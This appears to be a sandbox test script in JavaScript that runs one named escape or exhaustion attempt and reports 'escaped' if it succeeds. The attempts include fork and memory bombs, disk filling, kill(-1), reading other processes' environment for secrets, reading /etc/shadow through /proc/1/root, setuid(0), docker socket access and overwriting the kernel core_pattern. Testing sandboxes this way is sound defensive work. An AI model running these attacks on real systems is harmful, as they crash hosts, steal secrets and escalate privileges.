// Attacks that JavaScript and TypeScript can express; the first line typed says which. Knows no box. Whatever gets out prints "escaped".
const { spawn } = require("node:child_process");
const fs = require("node:fs");
const net = require("node:net");

const [word, port, server, paths] = fs.readFileSync(0, "utf8").split("\n");

const escaped = (what) => process.stdout.write(`escaped ${what}\n`);
/** An answer that is false, as no error is. */
const tries = (what, attempt) => {
  try {
    if (attempt() !== false) escaped(what);
  } catch {
    // refused, as it is to be
  }
};
const reads = (path) =>
  fs.statSync(path).isDirectory()
    ? fs.readdirSync(path).length >= 0
    : fs.readSync(fs.openSync(path), Buffer.alloc(1)) > 0;
const alone = (command) => spawn("sh", ["-c", command], { detached: true, stdio: "ignore" }).on("error", () => {});

const ATTACKS = {
  forks: () => setInterval(() => Array.from({ length: 20 }, () => alone("sleep 100")), 10),
  memory() {
    const taken = [];
    for (;;) taken.push(Array.from({ length: 10_000 }, () => taken.length));
  },
  memories() {
    for (let count = 0; count < 10; count++) alone("head -c 20m /dev/zero | tail | sleep 100");
    setInterval(() => {}, 1_000);
  },
  disk() {
    for (const path of ["/tmp/f", "f", "/dev/shm/f"]) tries(path, () => fs.writeFileSync(path, Buffer.alloc(20 << 20)));
  },
  output() {
    for (;;) process.stdout.write("x".repeat(1_000));
  },
  stays() {
    alone("sleep 1000");
    for (const signal of ["SIGTERM", "SIGINT", "SIGHUP", "SIGQUIT"]) process.on(signal, () => {});
    setInterval(() => {}, 1_000);
  },
  daemon: () => alone("sleep 1000").unref(),
  reads() {
    for (const path of paths.split(" ")) tries(path, () => reads(path));
  },
  looks() {
    for (const name of fs.readdirSync("/proc").filter((entry) => /^\d+$|^self$/.test(entry)))
      tries(name, () => fs.readFileSync(`/proc/${name}/environ`, "utf8").includes("SANDBOX_SECRET"));
  },
  signals() {
    tries("signal", () => Number(server) > 500 && process.kill(Number(server), 0));
    tries("init", () => process.kill(-1, "SIGKILL"));
  },
  network() {
    for (const host of ["127.0.0.1", "1.1.1.1", "::1"])
      net.connect(Number(port), host, () => escaped(host)).on("error", () => {});
    net.connect("/run/docker.sock", () => escaped("docker")).on("error", () => {});
    fetch("http://example.org").then(
      () => escaped("fetch"),
      () => {},
    );
  },
  links() {
    tries("symbolic link", () => fs.symlinkSync("/proc/1/root", "l") || reads("l/etc/shadow"));
    tries("hard link", () => fs.linkSync("/usr/bin/env", "h"));
    tries("user", () => process.setuid(0));
    tries("owner", () => fs.chownSync("/tmp", 0, 0));
    tries("rename", () => fs.renameSync("/usr/bin/env", "/tmp/env"));
    tries("kernel", () => fs.writeFileSync("/proc/sys/kernel/core_pattern", "|/room/x"));
    tries("first process", () => fs.writeFileSync("/proc/1/oom_score_adj", "-1000"));
  },
};
(ATTACKS[word] ?? (() => escaped("nothing tried")))();
